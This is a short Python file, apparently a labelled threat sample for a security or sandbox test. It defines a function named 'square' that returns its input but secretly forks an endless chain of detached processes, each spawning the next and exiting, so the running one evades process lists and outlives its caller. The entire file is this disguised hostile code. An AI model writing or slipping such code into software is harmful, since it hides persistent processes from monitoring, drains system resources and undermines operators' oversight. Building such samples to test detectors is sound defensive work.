"""Leaves a chain of processes behind, each of which starts the next and ends, so that no list holds the living one.

Threat: A4, D23.
"""

import os


def square(x):
    for _ in range(4):
        try:
            if os.fork() == 0:
                while True:
                    try:
                        if os.fork():
                            os._exit(0)
                        os.setsid()
                    except OSError:
                        pass
        except OSError:
            pass
    return x
